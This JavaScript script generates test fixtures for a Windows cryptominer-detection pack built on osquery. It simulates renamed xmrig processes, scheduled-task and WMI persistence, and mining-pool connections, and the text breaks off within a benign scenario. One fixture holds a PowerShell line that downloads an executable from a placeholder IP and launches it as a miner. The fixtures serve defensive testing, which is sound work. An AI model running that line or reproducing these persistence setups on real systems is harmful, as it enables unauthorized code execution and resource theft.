// Builds the scenario corpus under test/scenarios/<name>/: each a Windows
// host as snapshot files in snapshot/ (<table>.json, every value a string, as
// `osqueryi --json` prints), including rows of the extension's tables as a
// host running it would answer, plus expected.json written here BY HAND per
// scenario (which query flags which row with which reasons) — never derived
// from running the pack. Re-run after changing a scenario:
//   node scripts/build-pack-scenarios.mjs
import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { join, dirname } from 'node:path';
import { fileURLToPath } from 'node:url';

const out = join(dirname(fileURLToPath(import.meta.url)), '..', 'test', 'scenarios');
const NOW = Date.UTC(2026, 10, 24, 14, 0, 0) / 1000; // Tuesday 14:00 UTC
const S = (v) => (v === null || v === undefined ? '' : String(v));
const strings = (rows) => rows.map((r) => Object.fromEntries(Object.entries(r).map(([k, v]) => [k, S(v)])));

const MS = 'C:\\Windows\\System32\\';
function baseProcesses(now) {
  return [
    { pid: 4, name: 'System', path: '', cmdline: '', parent: 0 },
    { pid: 420, name: 'smss.exe', path: `${MS}smss.exe`, cmdline: '\\SystemRoot\\System32\\smss.exe', parent: 4 },
    {
      pid: 560,
      name: 'csrss.exe',
      path: `${MS}csrss.exe`,
      cmdline: '%SystemRoot%\\system32\\csrss.exe ObjectDirectory=\\Windows',
      parent: 420,
    },
    { pid: 640, name: 'wininit.exe', path: `${MS}wininit.exe`, cmdline: 'wininit.exe', parent: 420 },
    {
      pid: 700,
      name: 'services.exe',
      path: `${MS}services.exe`,
      cmdline: 'C:\\Windows\\system32\\services.exe',
      parent: 640,
    },
    { pid: 720, name: 'lsass.exe', path: `${MS}lsass.exe`, cmdline: 'C:\\Windows\\system32\\lsass.exe', parent: 640 },
    {
      pid: 900,
      name: 'svchost.exe',
      path: `${MS}svchost.exe`,
      cmdline: 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule',
      parent: 700,
    },
    {
      pid: 960,
      name: 'svchost.exe',
      path: `${MS}svchost.exe`,
      cmdline: 'C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p',
      parent: 700,
    },
    {
      pid: 1010,
      name: 'WmiPrvSE.exe',
      path: `${MS}wbem\\WmiPrvSE.exe`,
      cmdline: 'C:\\Windows\\system32\\wbem\\wmiprvse.exe',
      parent: 960,
    },
    {
      pid: 2000,
      name: 'explorer.exe',
      path: 'C:\\Windows\\explorer.exe',
      cmdline: 'C:\\Windows\\Explorer.EXE',
      parent: 1900,
    },
  ].map((p) => ({ uptime: 86_000, cpu: 0.5, ...p }));
}

/**
 * A host: extra processes (with cpu = lifetime CPU %, uptime seconds), and
 * optional sustained/signature/connection/task/wmi/powershell rows.
 */
function host(def) {
  const now = def.now ?? NOW;
  const procs = [...baseProcesses(now), ...(def.processes ?? [])];
  const processes = procs.map((p) => {
    const cpuMs = Math.round((p.cpu / 100) * p.uptime * 1000);
    return {
      pid: p.pid,
      name: p.name,
      path: p.path,
      cmdline: p.cmdline,
      state: 'STILL_ACTIVE',
      cwd: '',
      root: '',
      uid: -1,
      gid: -1,
      euid: -1,
      egid: -1,
      suid: -1,
      sgid: -1,
      on_disk: p.path ? 1 : -1,
      wired_size: -1,
      resident_size: 50_000_000,
      total_size: 90_000_000,
      user_time: Math.round(cpuMs * 0.9),
      system_time: Math.round(cpuMs * 0.1),
      disk_bytes_read: 0,
      disk_bytes_written: 0,
      start_time: now - p.uptime,
      parent: p.parent,
      pgroup: -1,
      threads: 8,
      nice: 32,
      elevated_token: 0,
      secure_process: 0,
      protection_type: '',
      virtual_process: 0,
      elapsed_time: p.uptime,
      handle_count: 300,
      percent_processor_time: cpuMs * 10_000,
    };
  });
  const byPid = new Map(procs.map((p) => [p.pid, p]));
  const sustained = (def.sustained ?? []).map((s) => {
    const p = byPid.get(s.pid);
    const parent = byPid.get(p.parent);
    return {
      pid: p.pid,
      start_time: now - p.uptime,
      name: p.name,
      path: p.path,
      cmdline: p.cmdline,
      user: s.user ?? 'DESKTOP\\alice',
      parent: p.parent,
      parent_name: parent?.name ?? s.parent_name ?? '',
      parent_path: parent?.path ?? '',
      parent_cmdline: parent?.cmdline ?? '',
      ancestry: s.ancestry ?? [parent?.name ?? s.parent_name ?? '', p.name].join(' > '),
      launch_vector: s.vector,
      samples: Math.floor(Math.min(p.uptime, 7200) / 10),
      observed_seconds: Math.min(p.uptime, 7200),
      avg_cpu_percent: s.avg,
      p95_cpu_percent: Math.min(100, s.avg + 3),
      max_cpu_percent: Math.min(100, s.avg + 6),
      seconds_above_threshold: Math.min(p.uptime, 7200) - 60,
      longest_streak_seconds: Math.min(p.uptime, 7200) - 120,
      sustained: 1,
      first_seen: now - Math.min(p.uptime, 7200),
      last_seen: now,
      exited: 0,
      approved: 0,
    };
  });
  const signatures = procs
    .filter((p) => p.path)
    .map((p) => {
      const o = (def.signatures ?? {})[p.pid] ?? {};
      const ms = p.path.toLowerCase().startsWith('c:\\windows\\') && !o.unsigned;
      const signed = (o.signed ?? (ms || (o.signer ? 1 : 0))) ? 1 : 0;
      return {
        pid: p.pid,
        name: p.name,
        path: p.path,
        on_disk: 1,
        size: 500_000,
        sha256: 'ab'.repeat(32),
        pe: 1,
        original_filename: o.original ?? p.name,
        internal_name: (o.original ?? p.name).replace(/\.exe$/i, ''),
        product_name: o.product ?? '',
        company_name: o.company ?? (ms ? 'Microsoft Corporation' : ''),
        file_description: '',
        file_version: '1.0.0.0',
        renamed: o.renamed ?? 0,
        expected_location: o.expected ?? 1,
        expected_paths: '',
        signed,
        signature_status: o.status ?? (signed ? 'valid' : 'missing'),
        signer_subject: signed ? (o.signer ?? 'CN=Microsoft Windows') : '',
        signer_issuer: signed ? 'CN=Microsoft Windows Production PCA 2011' : '',
        digest_algorithm: signed ? 'sha256' : '',
        miner_indicators: o.miner ?? '',
        verdict: o.verdict ?? 'ok',
        reasons: o.reasons ?? '',
      };
    });
  // osquery's authenticode returns no row when verification errors (def.unverifiable).
  const authenticode = [
    ...new Map(signatures.filter((s) => !(def.unverifiable ?? []).includes(s.pid)).map((s) => [s.path, s])).values(),
  ].map((s) => ({
    path: s.path,
    original_program_name: '',
    serial_number: '',
    issuer_name: s.signer_issuer,
    subject_name: s.signer_subject.replace(/^CN=/, ''),
    result:
      ((def.signatures ?? {})[s.pid] ?? {}).authenticode ??
      ((def.catalogSigned ?? []).includes(s.pid) || s.signed ? 'trusted' : 'missing'),
  }));
  const images = [...new Map(procs.filter((p) => p.path).map((p) => [p.path, p])).values()];
  const files = images.map((p) => ({
    path: p.path,
    directory: p.path.slice(0, p.path.lastIndexOf('\\')),
    filename: p.name,
    inode: 0,
    uid: 0,
    gid: 0,
    mode: '',
    device: 0,
    size: 500_000,
    block_size: 4096,
    atime: now,
    mtime: now - 864000,
    ctime: now - 864000,
    btime: now - 864000,
    hard_links: 1,
    symlink: 0,
    type: 'regular',
    attributes: 'A',
    volume_serial: '1234-ABCD',
    file_id: '0x1',
    file_version: '1.0.0.0',
    product_version: '1.0.0.0',
    original_filename: ((def.signatures ?? {})[p.pid] ?? {}).original ?? p.name,
    shortcut_target_path: '',
    shortcut_target_type: '',
    shortcut_target_location: '',
    shortcut_start_in: '',
    shortcut_run: '',
    shortcut_comment: '',
  }));
  const connections = (def.connections ?? []).map((c) => {
    const p = byPid.get(c.pid);
    return {
      pid: c.pid,
      start_time: now - p.uptime,
      name: p.name,
      protocol: 'tcp',
      local_address: '10.0.0.5',
      local_port: 49800 + (c.remote_port % 100),
      remote_address: c.remote,
      remote_port: c.remote_port,
      first_seen: now - 3600,
      last_seen: now,
      observed_seconds: 3600,
      samples: 360,
      state: 'ESTABLISHED',
      external: c.external ?? 1,
      pool_port: c.pool ?? 0,
      persistent: c.persistent ?? 1,
    };
  });
  const sockets = [
    ...(def.connections ?? []).map((c) => ({
      pid: c.pid,
      fd: -1,
      socket: -1,
      family: 2,
      protocol: 6,
      local_address: '10.0.0.5',
      remote_address: c.remote,
      local_port: 49800 + (c.remote_port % 100),
      remote_port: c.remote_port,
      path: '',
      state: 'ESTABLISHED',
    })),
    ...(def.sockets ?? []).map((o) => ({
      fd: -1,
      socket: -1,
      family: 2,
      protocol: 6,
      local_address: '10.0.0.5',
      local_port: 49900,
      path: '',
      state: 'ESTABLISHED',
      ...o,
    })),
  ];
  const flags = Object.entries({
    disable_events: 'false',
    enable_windows_events_publisher: 'true',
    enable_windows_events_subscriber: 'true',
    enable_powershell_events_subscriber: 'true',
    enable_process_etw_events: 'false',
    extensions_autoload: 'C:\\Program Files\\osquery\\extensions.load',
    ...(def.flags ?? {}),
  }).map(([name, value]) => ({ name, type: 'bool', description: '', default_value: 'false', value, shell_only: 0 }));
  const d = new Date(now * 1000);
  const tables = {
    processes,
    file: files,
    authenticode,
    process_open_sockets: sockets,
    osquery_flags: flags,
    scheduled_tasks: (def.tasks ?? []).map((t) => ({
      enabled: 1,
      state: 'ready',
      hidden: 0,
      last_run_time: now - 600,
      next_run_time: now + 3000,
      last_run_message: '',
      last_run_code: 0,
      ...t,
    })),
    wmi_cli_event_consumers: def.wmiCli ?? [],
    wmi_script_event_consumers: def.wmiScript ?? [],
    wmi_event_filters: def.wmiFilters ?? [],
    wmi_filter_consumer_binding: def.wmiBindings ?? [],
    powershell_events: (def.powershell ?? []).map((e) => ({
      time: now - 500,
      datetime: '',
      script_block_count: 1,
      script_name: '',
      script_path: '',
      cosine_similarity: 0,
      ...e,
    })),
    services: def.services ?? [],
    hash: images.map((s) => ({ path: s.path, directory: '', md5: '', sha1: '', sha256: 'ab'.repeat(32) })),
    system_info: [
      {
        hostname: def.hostname ?? 'DESKTOP-7Q2',
        uuid: '4C4C4544-0042',
        cpu_type: 'x86_64',
        cpu_brand: 'Intel',
        cpu_physical_cores: 4,
        cpu_logical_cores: 8,
        cpu_sockets: 1,
        physical_memory: 17179869184,
        hardware_vendor: 'Dell Inc.',
        hardware_model: 'OptiPlex 7090',
        computer_name: def.hostname ?? 'DESKTOP-7Q2',
      },
    ],
    time: [
      {
        weekday: d.toUTCString().slice(0, 3),
        year: d.getUTCFullYear(),
        month: d.getUTCMonth() + 1,
        day: d.getUTCDate(),
        hour: d.getUTCHours(),
        minutes: d.getUTCMinutes(),
        seconds: d.getUTCSeconds(),
        timezone: 'UTC',
        local_timezone: 'UTC',
        unix_time: now,
        timestamp: d.toUTCString(),
        datetime: d.toISOString(),
        iso_8601: d.toISOString(),
        win_timestamp: 0,
      },
    ],
    // osqueryd's worker (6010) under its watcher (6000); neither is among the scenario's processes.
    osquery_info: [
      {
        pid: 6010,
        uuid: '4C4C4544-0042',
        instance_id: 'b7a1c7e2-0f0e-4d4e-9a55-3f1d2c0b9e11',
        version: '5.23.1',
        config_hash: '',
        config_valid: 1,
        extensions: 'active',
        build_platform: 'windows',
        build_distro: '10',
        start_time: now - 86400,
        watcher: 6000,
        platform_mask: 2,
      },
    ],
    process_cpu_sustained: sustained,
    process_signature_check: signatures,
    process_connection_history: connections,
  };
  return tables;
}

// osquery's own text for a task: "<WorkingDirectory> <Path> <Arguments>" per
// exec action, joined with ',', environment variables unexpanded
// (osquery/tables/system/windows/scheduled_tasks.cpp).
const taskAction = (...actions) => actions.map(([dir, path, args]) => `${dir} ${path} ${args}`).join(',');
const P = (pid, name, path, cmdline, parent, cpu, uptime = 7200) => ({ pid, name, path, cmdline, parent, cpu, uptime });
const scenarios = {};

// ---- attacks ----------------------------------------------------------
scenarios['attack-schtask-appdata-miner'] = {
  story: 'A scheduled task starts a renamed xmrig from %APPDATA% that burns ~95 % CPU.',
  host: host({
    processes: [
      P(
        4100,
        'svcupdate.exe',
        'C:\\Users\\alice\\AppData\\Roaming\\svcupdate\\svcupdate.exe',
        'svcupdate.exe --config config.json',
        900,
        93,
      ),
    ],
    sustained: [{ pid: 4100, vector: 'scheduled_task', avg: 95 }],
    signatures: { 4100: { original: 'xmrig.exe', renamed: 1, verdict: 'renamed', reasons: 'RENAMED' } },
    tasks: [
      {
        name: 'SvcUpdate',
        path: '\\Microsoft\\Windows\\Maintenance\\',
        action: taskAction([
          '',
          'C:\\Users\\alice\\AppData\\Roaming\\svcupdate\\svcupdate.exe',
          '--config config.json',
        ]),
      },
    ],
  }),
  expected: {
    sustained_cpu_launch_chain: [[4100, 'SUSTAINED_CPU,LAUNCH_SCHEDULED_TASK']],
    masquerade_signature: [[4100, 'RENAMED']],
    suspicious_scheduled_tasks: [['SvcUpdate', 'TASK_USER_WRITABLE,TASK_RUNS_SUSTAINED']],
    composite_finding: [[4100, 'SUSTAINED_CPU,LAUNCH_SCHEDULED_TASK,RENAMED,UNSIGNED_BINARY,USER_WRITABLE_PATH']],
    core_lifetime_cpu: [[4100, 'scheduled_task']],
    core_masquerade: [[4100, 'RENAMED']],
  },
};
scenarios['attack-svchost-in-users-public'] = {
  story: 'xmrig renamed svchost.exe running from C:\\Users\\Public, pool connection on 3333.',
  host: host({
    processes: [
      P(
        4200,
        'svchost.exe',
        'C:\\Users\\Public\\svchost.exe',
        'C:\\Users\\Public\\svchost.exe -o 45.9.20.1:3333 -u 47abc --coin monero',
        2000,
        88,
      ),
    ],
    sustained: [{ pid: 4200, vector: 'interactive', avg: 92 }],
    signatures: {
      4200: { original: 'xmrig.exe', renamed: 1, expected: 0, verdict: 'masquerade', reasons: 'MASQUERADE,RENAMED' },
    },
    connections: [{ pid: 4200, remote: '45.9.20.1', remote_port: 3333, pool: 1 }],
  }),
  expected: {
    sustained_cpu_external_connections: [[4200, 'SUSTAINED_CPU,EXTERNAL_PERSISTENT,POOL_PORT']],
    masquerade_signature: [[4200, 'MASQUERADE,RENAMED']],
    miner_cmdline_processes: [[4200, 'MINER_ALGO']],
    composite_finding: [
      [4200, 'SUSTAINED_CPU,MASQUERADE,RENAMED,UNSIGNED_BINARY,POOL_CONNECTION,MINER_CMDLINE,USER_WRITABLE_PATH'],
    ],
    core_lifetime_cpu: [[4200, 'interactive']],
    core_masquerade: [[4200, 'RENAMED,MASQUERADE']],
  },
};
scenarios['attack-wmi-commandline-consumer'] = {
  story: 'A WMI CommandLineEventConsumer relaunches a miner from ProgramData; WmiPrvSE is its parent.',
  host: host({
    processes: [
      P(
        4300,
        'wuauclt.exe',
        'C:\\ProgramData\\WinSvc\\wuauclt.exe',
        'C:\\ProgramData\\WinSvc\\wuauclt.exe -c C:\\ProgramData\\WinSvc\\c.json',
        1010,
        60,
      ),
    ],
    sustained: [{ pid: 4300, vector: 'wmi', avg: 62 }],
    signatures: {
      4300: { original: 'xmrig.exe', renamed: 1, verdict: 'masquerade', expected: 0, reasons: 'MASQUERADE,RENAMED' },
    },
    wmiCli: [
      {
        namespace: 'root\\subscription',
        name: 'WinSvcUpdater',
        command_line_template: 'C:\\ProgramData\\WinSvc\\wuauclt.exe -c C:\\ProgramData\\WinSvc\\c.json',
        executable_path: '',
        class: 'CommandLineEventConsumer',
        relative_path: 'CommandLineEventConsumer.Name="WinSvcUpdater"',
      },
    ],
    wmiFilters: [
      {
        namespace: 'root\\subscription',
        name: 'WinSvcFilter',
        query:
          "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'",
        query_language: 'WQL',
        class: '__EventFilter',
        relative_path: '__EventFilter.Name="WinSvcFilter"',
      },
    ],
    wmiBindings: [
      {
        namespace: 'root\\subscription',
        consumer: '\\\\.\\root\\subscription:CommandLineEventConsumer.Name="WinSvcUpdater"',
        filter: '\\\\.\\root\\subscription:__EventFilter.Name="WinSvcFilter"',
        class: '__FilterToConsumerBinding',
        relative_path: '__FilterToConsumerBinding.Consumer="x"',
      },
    ],
  }),
  expected: {
    sustained_cpu_launch_chain: [[4300, 'SUSTAINED_CPU,LAUNCH_WMI']],
    masquerade_signature: [[4300, 'MASQUERADE,RENAMED']],
    wmi_persistence: [['WinSvcUpdater', 'WMI_CLI_CONSUMER,WMI_USER_WRITABLE']],
    composite_finding: [[4300, 'SUSTAINED_CPU,LAUNCH_WMI,MASQUERADE,RENAMED,UNSIGNED_BINARY,USER_WRITABLE_PATH']],
    core_lifetime_cpu: [[4300, 'wmi']],
    core_masquerade: [[4300, 'RENAMED,MASQUERADE']],
  },
};
scenarios['attack-powershell-parent-exited'] = {
  story: 'PowerShell downloaded and started a miner, then exited; only remembered lineage shows the launch.',
  host: host({
    processes: [
      P(4400, 'msiexec32.exe', 'C:\\Users\\bob\\AppData\\Local\\Temp\\msiexec32.exe', 'msiexec32.exe -B', 3999, 97),
    ],
    sustained: [{ pid: 4400, vector: 'powershell', avg: 97, parent_name: 'powershell.exe', user: 'DESKTOP\\bob' }],
    powershell: [
      {
        script_block_id: '7f1c2a9e-0b1d-4e4a-9a53-1a2b3c4d5e6f',
        script_text:
          '$c=New-Object Net.WebClient;$c.DownloadFile(\'http://203.0.113.7/m.exe\',"$env:TEMP\\msiexec32.exe");Start-Process "$env:TEMP\\msiexec32.exe" -ArgumentList \'-B --donate-level=1 -o stratum+tcp://pool.minexmr.com:4444\'',
      },
    ],
  }),
  expected: {
    sustained_cpu_launch_chain: [[4400, 'SUSTAINED_CPU,LAUNCH_POWERSHELL']],
    powershell_miner_scripts: [
      ['7f1c2a9e-0b1d-4e4a-9a53-1a2b3c4d5e6f', 'PS_MINER_SCRIPT,MINER_DONATE_LEVEL,MINER_STRATUM_URL,MINER_POOL_HOST'],
    ],
    composite_finding: [[4400, 'SUSTAINED_CPU,LAUNCH_POWERSHELL,UNSIGNED_BINARY,USER_WRITABLE_PATH']],
    core_lifetime_cpu: [[4400, 'other']],
    core_masquerade: [],
  },
};
scenarios['attack-donate-level-pool'] = {
  story: 'A miner with --donate-level connected to a mining pool, started from a user shell.',
  host: host({
    processes: [
      P(
        4500,
        'xmrig.exe',
        'C:\\Tools\\xmrig\\xmrig.exe',
        'xmrig.exe --donate-level=0 -o gulf.moneroocean.stream:10343 -u 4xyz -p x',
        2000,
        99,
      ),
    ],
    sustained: [{ pid: 4500, vector: 'interactive', avg: 99 }],
    connections: [{ pid: 4500, remote: '198.51.100.23', remote_port: 10343, pool: 1 }],
  }),
  expected: {
    sustained_cpu_external_connections: [[4500, 'SUSTAINED_CPU,EXTERNAL_PERSISTENT,POOL_PORT']],
    miner_cmdline_processes: [[4500, 'MINER_DONATE_LEVEL,MINER_POOL_HOST,MINER_TOOL_NAME']],
    composite_finding: [[4500, 'SUSTAINED_CPU,UNSIGNED_BINARY,POOL_CONNECTION,MINER_CMDLINE']],
    core_lifetime_cpu: [[4500, 'interactive']],
    core_masquerade: [],
  },
};
scenarios['attack-program-files-trailing-space'] = {
  story: 'A miner in "C:\\Program Files \\Microsoft\\" (trailing space), run by a scheduled task.',
  host: host({
    processes: [
      P(
        4600,
        'MsEdgeUpdate.exe',
        'C:\\Program Files \\Microsoft\\MsEdgeUpdate.exe',
        '"C:\\Program Files \\Microsoft\\MsEdgeUpdate.exe"',
        900,
        70,
      ),
    ],
    sustained: [{ pid: 4600, vector: 'scheduled_task', avg: 72 }],
    signatures: { 4600: { verdict: 'suspicious', reasons: 'UNSIGNED' } },
    tasks: [
      {
        name: 'MicrosoftEdgeUpdateTaskCore',
        path: '\\',
        action: taskAction(['', 'C:\\Program Files \\Microsoft\\MsEdgeUpdate.exe', '']),
      },
    ],
  }),
  expected: {
    sustained_cpu_launch_chain: [[4600, 'SUSTAINED_CPU,LAUNCH_SCHEDULED_TASK']],
    masquerade_signature: [[4600, 'SPOOFED_FOLDER']],
    suspicious_scheduled_tasks: [['MicrosoftEdgeUpdateTaskCore', 'TASK_RUNS_SUSTAINED']],
    composite_finding: [[4600, 'SUSTAINED_CPU,LAUNCH_SCHEDULED_TASK,UNSIGNED_BINARY,SPOOFED_FOLDER']],
    core_lifetime_cpu: [[4600, 'scheduled_task']],
    core_masquerade: [[4600, 'SPOOFED_FOLDER']],
  },
};
scenarios['attack-legit-service-name'] = {
  story:
    'A miner installed as service "wuauserv2" with binary C:\\Windows\\System32\\wuaucltsvc.exe, unsigned, talking to a pool.',
  host: host({
    processes: [P(4700, 'wuaucltsvc.exe', `${MS}wuaucltsvc.exe`, `${MS}wuaucltsvc.exe`, 700, 80)],
    sustained: [{ pid: 4700, vector: 'service', avg: 81, user: 'NT AUTHORITY\\SYSTEM' }],
    signatures: {
      4700: { unsigned: true, original: 'xmrig.exe', renamed: 1, verdict: 'renamed', reasons: 'RENAMED,UNSIGNED' },
    },
    connections: [{ pid: 4700, remote: '203.0.113.50', remote_port: 14444, pool: 1 }],
    services: [
      {
        name: 'wuauserv2',
        service_type: 'OWN_PROCESS',
        display_name: 'Windows Update Service',
        status: 'RUNNING',
        pid: 4700,
        start_type: 'AUTO_START',
        win32_exit_code: 0,
        service_exit_code: 0,
        path: `${MS}wuaucltsvc.exe`,
        module_path: '',
        description: 'Windows Update',
        user_account: 'LocalSystem',
      },
    ],
  }),
  expected: {
    sustained_cpu_external_connections: [[4700, 'SUSTAINED_CPU,EXTERNAL_PERSISTENT,POOL_PORT']],
    masquerade_signature: [[4700, 'RENAMED,UNSIGNED_SYSTEM_PATH']],
    composite_finding: [[4700, 'SUSTAINED_CPU,RENAMED,UNSIGNED_BINARY,UNSIGNED_SYSTEM_PATH,POOL_CONNECTION']],
    core_lifetime_cpu: [[4700, 'service']],
    core_masquerade: [[4700, 'RENAMED,UNSIGNED_SYSTEM_PATH']],
  },
};
scenarios['attack-tampered-signature'] = {
  story:
    'A patched Chrome helper (our reader: signed digest no longer matches; Windows: untrusted) run by Schedule in a shared netsvcs svchost, mining to port 14444.',
  host: host({
    processes: [
      P(1100, 'svchost.exe', `${MS}svchost.exe`, 'C:\\Windows\\system32\\svchost.exe -k netsvcs', 700, 0.4),
      P(
        5300,
        'chrome_proxy.exe',
        'C:\\Program Files\\Google\\Chrome\\Application\\chrome_proxy.exe',
        '"C:\\Program Files\\Google\\Chrome\\Application\\chrome_proxy.exe"',
        1100,
        96,
      ),
    ],
    // The extension's own column sees command lines only: 'service'. The pack knows better from services.pid.
    sustained: [
      {
        pid: 5300,
        vector: 'service',
        avg: 96,
        user: 'NT AUTHORITY\\SYSTEM',
        ancestry: 'chrome_proxy.exe(5300) <- svchost.exe(1100) <- services.exe(700)',
      },
    ],
    signatures: {
      5300: {
        signer: 'CN=Google LLC',
        status: 'tampered',
        authenticode: 'untrusted',
        verdict: 'suspicious',
        reasons: 'signature_tampered',
      },
    },
    connections: [{ pid: 5300, remote: '51.15.65.182', remote_port: 14444, pool: 1 }],
    services: [
      {
        name: 'Schedule',
        service_type: 'SHARE_PROCESS',
        display_name: 'Task Scheduler',
        status: 'RUNNING',
        pid: 1100,
        start_type: 'AUTO_START',
        win32_exit_code: 0,
        service_exit_code: 0,
        path: 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p',
        module_path: 'C:\\Windows\\system32\\schedsvc.dll',
        description: '',
        user_account: 'LocalSystem',
      },
    ],
  }),
  expected: {
    sustained_cpu_external_connections: [[5300, 'SUSTAINED_CPU,EXTERNAL_PERSISTENT,POOL_PORT']],
    sustained_cpu_launch_chain: [[5300, 'SUSTAINED_CPU,LAUNCH_SCHEDULED_TASK']],
    masquerade_signature: [[5300, 'SIGNATURE_TAMPERED']],
    composite_finding: [[5300, 'SUSTAINED_CPU,LAUNCH_SCHEDULED_TASK,SIGNATURE_TAMPERED,POOL_CONNECTION']],
    core_lifetime_cpu: [[5300, 'scheduled_task']],
    core_masquerade: [[5300, 'SIGNATURE_UNTRUSTED']],
  },
};
scenarios['attack-throttled-miner'] = {
  story: 'A miner throttled to ~30 % (--max-cpu-usage) launched by a scheduled task from AppData.',
  host: host({
    processes: [
      P(
        4800,
        'OneDriveSync.exe',
        'C:\\Users\\carol\\AppData\\Local\\OneDriveSync\\OneDriveSync.exe',
        'OneDriveSync.exe --max-cpu-usage=30 -o 192.0.2.80:443',
        900,
        30,
      ),
    ],
    sustained: [{ pid: 4800, vector: 'scheduled_task', avg: 31 }],
    connections: [{ pid: 4800, remote: '192.0.2.80', remote_port: 443, pool: 0, persistent: 1 }],
    tasks: [
      {
        name: 'OneDrive Sync Task',
        path: '\\',
        action: taskAction([
          'C:\\Users\\carol\\AppData\\Local\\OneDriveSync',
          'C:\\Users\\carol\\AppData\\Local\\OneDriveSync\\OneDriveSync.exe',
          '--max-cpu-usage=30 -o 192.0.2.80:443',
        ]),
      },
    ],
  }),
  expected: {
    sustained_cpu_launch_chain: [[4800, 'SUSTAINED_CPU,LAUNCH_SCHEDULED_TASK']],
    sustained_cpu_external_connections: [[4800, 'SUSTAINED_CPU,EXTERNAL_PERSISTENT']],
    suspicious_scheduled_tasks: [['OneDrive Sync Task', 'TASK_USER_WRITABLE,TASK_RUNS_SUSTAINED,TASK_MINER_ARGS']],
    miner_cmdline_processes: [[4800, 'MINER_CPU_TUNING']],
    composite_finding: [
      [
        4800,
        'SUSTAINED_CPU,LAUNCH_SCHEDULED_TASK,UNSIGNED_BINARY,EXTERNAL_PERSISTENT,MINER_CMDLINE,USER_WRITABLE_PATH',
      ],
    ],
    core_lifetime_cpu: [[4800, 'scheduled_task']],
    core_masquerade: [],
  },
};

scenarios['attack-messy-host'] = {
  story:
    'A real host: a two-action task with a working directory starts %APPDATA%\\Updater\\winupd.exe, which holds an IPv6 pool connection not yet in the history; WMI subscriptions in ROOT\\Subscription and ROOT\\default share names; a Program Files helper authenticode cannot verify.',
  host: host({
    processes: [
      P(
        4900,
        'winupd.exe',
        'C:\\Users\\dave\\AppData\\Roaming\\Updater\\winupd.exe',
        '"C:\\Users\\dave\\AppData\\Roaming\\Updater\\winupd.exe" --background',
        900,
        92,
      ),
      P(
        4901,
        'helper.exe',
        'C:\\Program Files\\Common Files\\Vendor\\helper.exe',
        '"C:\\Program Files\\Common Files\\Vendor\\helper.exe"',
        700,
        1,
      ),
    ],
    sustained: [{ pid: 4900, vector: 'scheduled_task', avg: 93, user: 'DESKTOP\\dave' }],
    unverifiable: [4901],
    sockets: [
      {
        pid: 4900,
        family: 23,
        remote_address: '2a01:4f8:c17:b8f::2',
        remote_port: 3333,
        local_address: '2001:db8:5::10',
      },
      {
        pid: 4900,
        family: 23,
        remote_address: 'fe80::1c2d:3e4f:5a6b:7c8d',
        remote_port: 4444,
        local_address: 'fe80::1',
      },
      { pid: 4900, family: 23, remote_address: '::ffff:10.0.0.9', remote_port: 3333, local_address: '::ffff:10.0.0.5' },
      { pid: 2000, family: 2, protocol: 17, remote_address: '0', remote_port: 0, state: '' },
      {
        pid: 2000,
        family: 23,
        protocol: 6,
        remote_address: '2606:4700::6810:84e5',
        remote_port: 443,
        local_address: '2001:db8:5::10',
      },
    ],
    tasks: [
      {
        name: 'UpdaterTask',
        path: '\\',
        action: taskAction(
          ['C:\\Users\\dave\\AppData\\Roaming\\Updater', '%APPDATA%\\Updater\\winupd.exe', '--background'],
          ['', 'C:\\Windows\\System32\\cmd.exe', '/c echo ok'],
        ),
      },
      { name: 'TempCleanup', path: '\\', action: taskAction(['', '%LOCALAPPDATA%\\Temp\\cleanup.exe', '']) },
      {
        name: 'VendorSync',
        path: '\\Vendor\\',
        action: taskAction(['C:\\Program Files\\Vendor', '"C:\\Program Files\\Vendor\\agent.exe"', '--sync']),
      },
    ],
    wmiCli: [
      {
        namespace: 'ROOT\\default',
        name: 'Updater',
        command_line_template: '%APPDATA%\\Updater\\winupd.exe --background',
        executable_path: '',
        class: 'CommandLineEventConsumer',
        relative_path: 'CommandLineEventConsumer.Name="Updater"',
      },
      {
        namespace: 'ROOT\\Subscription',
        name: 'Updater',
        command_line_template: '"C:\\Program Files\\Vendor\\agent.exe" --check',
        executable_path: '',
        class: 'CommandLineEventConsumer',
        relative_path: 'CommandLineEventConsumer.Name="Updater"',
      },
    ],
    wmiFilters: [
      {
        namespace: 'ROOT\\default',
        name: 'UpdaterFilter',
        query: "SELECT * FROM __InstanceCreationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_LogonSession'",
        query_language: 'WQL',
        class: '__EventFilter',
        relative_path: '__EventFilter.Name="UpdaterFilter"',
      },
      {
        namespace: 'ROOT\\Subscription',
        name: 'UpdaterFilter',
        query: 'SELECT * FROM __TimerEvent',
        query_language: 'WQL',
        class: '__EventFilter',
        relative_path: '__EventFilter.Name="UpdaterFilter"',
      },
    ],
    wmiBindings: [
      {
        namespace: 'ROOT\\default',
        consumer: 'CommandLineEventConsumer.Name="Updater"',
        filter: '__EventFilter.Name="UpdaterFilter"',
        class: '__FilterToConsumerBinding',
        relative_path:
          '__FilterToConsumerBinding.Consumer="CommandLineEventConsumer.Name=\\"Updater\\"",Filter="__EventFilter.Name=\\"UpdaterFilter\\""',
      },
    ],
  }),
  expected: {
    sustained_cpu_launch_chain: [[4900, 'SUSTAINED_CPU,LAUNCH_SCHEDULED_TASK']],
    sustained_cpu_external_connections: [[4900, 'SUSTAINED_CPU,POOL_PORT']],
    suspicious_scheduled_tasks: [
      ['UpdaterTask', 'TASK_USER_WRITABLE,TASK_RUNS_SUSTAINED'],
      ['TempCleanup', 'TASK_USER_WRITABLE'],
    ],
    wmi_persistence: [['Updater', 'WMI_CLI_CONSUMER,WMI_USER_WRITABLE']],
    composite_finding: [[4900, 'SUSTAINED_CPU,LAUNCH_SCHEDULED_TASK,UNSIGNED_BINARY,USER_WRITABLE_PATH']],
    core_lifetime_cpu: [[4900, 'scheduled_task']],
    core_masquerade: [],
  },
};

// ---- benign -----------------------------------------------------------
const quiet = { core_masquerade: [] };
scenarios['benign-windows-update-tiworker'] = {
  story: 'TiWorker installs a cumulative update at 85 % CPU, started by the TrustedInstaller service.',
  host: host({
    processes: [
      P(
        5100,
        'TrustedInstaller.exe',
        'C:\\Windows\\servicing\\TrustedInstaller.exe',
        'C:\\Windows\\servicing\\TrustedInstaller.exe',
        700,
        2,
      ),
      P(
        5101,
        'TiWorker.exe',
